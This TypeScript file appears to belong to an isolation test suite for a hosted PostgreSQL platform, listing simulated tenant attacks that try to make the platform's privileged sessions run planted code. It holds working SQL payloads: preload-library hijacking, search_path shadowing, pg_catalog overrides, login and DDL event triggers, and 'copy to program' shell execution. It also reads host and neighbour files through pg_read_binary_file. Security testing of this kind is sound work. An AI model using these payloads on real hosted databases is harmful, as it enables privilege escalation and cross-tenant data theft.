import { join } from 'node:path';
import { type Attempt, NotApplicable, type Scene } from '../attempt.ts';
import { literal, quoted } from '../intruder.ts';
import type { OperationName } from '../operations.ts';
import { compiled, leaked, outsiders } from '../plant.ts';

// SQL and libraries that the platform's own sessions with his database would run without knowing.

const EVERYWHERE: readonly OperationName[] = [
  'session',
  'verify',
  'backup',
  'archive',
  'resume',
  'restore',
  'restore to new',
  'upgrade',
  'download',
];

/** What SQL of the platform's sessions would run without knowing. It may, but only as the project's own user. */
function inSql(
  name: string,
  during: OperationName,
  sql: (at: Scene) => string,
  { from = 15, alone = true }: { from?: number; alone?: boolean } = {},
): Attempt {
  return {
    name,
    during,
    alsoDuring: EVERYWHERE,
    ...(alone ? { alone: true as const } : {}),
    plant: async (at) => {
      if (at.major < from) throw new NotApplicable(`PostgreSQL ${at.major} has none`);
      await at.intruder.sql(sql(at));
    },
    afterwards: async (at) => outsiders(at),
  };
}

const telling = (at: Scene) => `copy (select 1) to program ${literal(at.tell)}`;
const body = (at: Scene, result: string) =>
  `begin begin ${telling(at)}; exception when others then null; end; return ${result}; end`;

export const CODE_ATTEMPTS: readonly Attempt[] = [
  {
    name: 'sets libraries for every session by ALTER ROLE ALL and ALTER DATABASE',
    during: 'backup',
    alsoDuring: EVERYWHERE,
    alone: true,
    plant: async (at) => {
      const made = compiled(at);
      const folder = join(at.intruder.dataDirectory, 'lib');
      await at.intruder.shell(`mkdir -p ${quoted(folder)}; cp ${quoted(made)} ${quoted(folder)}`);
      const file = `lib/${made.split('/').at(-1)}`;
      await at.intruder.sql(
        `alter role all set session_preload_libraries = '${file}'; alter database postgres set session_preload_libraries = '${file}'`,
      );
    },
    afterwards: async (at) => outsiders(at),
  },
  inSql(
    'shadows functions and operators that platform sessions use',
    'session',
    (at) => `
    create schema evil;
    create function evil.format(text, text, text) returns text language plpgsql as $$ ${body(at, '$1')} $$;
    create function evil.count(text) returns bigint language plpgsql as $$ ${body(at, '1')} $$;
    create function evil.same(int, int) returns bool language plpgsql as $$ ${body(at, 'true')} $$;
    create operator evil.= (leftarg = int, rightarg = int, function = evil.same);
    alter role supabase_admin set search_path = evil, public, pg_catalog;
    alter role all set search_path = evil, public, pg_catalog`,
  ),
  inSql(
    'writes functions of pg_catalog anew',
    'verify',
    (at) => `
    create or replace function pg_catalog.pg_control_checkpoint(out checkpoint_lsn pg_lsn, out redo_lsn pg_lsn, out redo_wal_file text,
      out timeline_id integer, out prev_timeline_id integer, out full_page_writes boolean, out next_xid text, out next_oid oid,
      out next_multixact_id xid, out next_multi_offset xid, out oldest_xid xid, out oldest_xid_dbid oid, out oldest_active_xid xid,
      out oldest_multi_xid xid, out oldest_multi_dbid oid, out oldest_commit_ts_xid xid, out newest_commit_ts_xid xid,
      out checkpoint_time timestamptz) returns record language plpgsql as $$ begin ${telling(at)}; end $$`,
  ),
  inSql(
    'plants a trigger for every login',
    'verify',
    (at) => `
    create function public.on_login() returns event_trigger language plpgsql as $$ begin ${telling(at)}; end $$;
    create event trigger breach on login execute function public.on_login();
    alter event trigger breach enable always`,
    { from: 17, alone: false },
  ),
  inSql(
    'plants triggers for every command',
    'download',
    (at) => `
    create function public.on_ddl() returns event_trigger language plpgsql as $$ begin ${telling(at)}; end $$;
    create event trigger breach_ddl on ddl_command_start execute function public.on_ddl();
    alter event trigger breach_ddl enable always`,
  ),
  inSql(
    'has the event triggers of the project run in sessions of the platform',
    'session',
    (at) => `
    create function public.on_change(text, text) returns void language plpgsql as $$ begin ${telling(at)}; end $$;
    insert into basalt.event_triggers (name, event, function_name) values ('breach', 'ddl_command_start', 'on_change');
    create or replace function basalt.is_session_of_project() returns boolean language sql as 'select true'`,
  ),
  inSql(
    'plants code in indexes, defaults, views and constraints',
    'upgrade',
    (at) => `
    create function public.evil_too() returns void language plpgsql as $$ begin ${telling(at)}; end $$;
    create function public.evil(n int) returns int immutable language plpgsql as $$ begin perform public.evil_too(); return n; end $$;
    create table public.bait (n int, check (public.evil(n) = n)); insert into public.bait values (1);
    create index on public.bait (public.evil(n));
    create materialized view public.bait_view as select public.evil(n) from public.bait`,
  ),
  inSql(
    "weakens the platform's own role",
    'session',
    () => `
    alter role supabase_admin set log_statement = 'all';
    alter role supabase_admin set statement_timeout = '3s';
    alter role supabase_admin set role = 'postgres';
    alter role supabase_admin set session_replication_role = 'replica'`,
  ),
  {
    name: 'asks the server to read and list things of root and of the neighbour',
    during: 'running',
    withoutRoot: 'not separated',
    afterwards: async (at) => {
      const paths = [
        at.canary.file,
        join(at.neighbour.dataDirectory, 'global/pg_control'),
        join(at.host.home, 'secret.key'),
      ];
      const broken: string[] = [];
      for (const path of paths) {
        const read = await at.intruder
          .sql(`select encode(pg_read_binary_file('${path}'), 'escape') as text`)
          .catch(() => []);
        if (read.length > 0) broken.push(`the server reads ${path}`);
      }
      const list = await at.intruder
        .sql(`select string_agg(n, ',') as text from pg_ls_dir('${join(at.host.home, 'backups')}') n`)
        .catch(() => []);
      if (list.length > 0) broken.push('the server lists the backups');
      return [...broken, ...leaked(at, broken.join())];
    },
  },
];
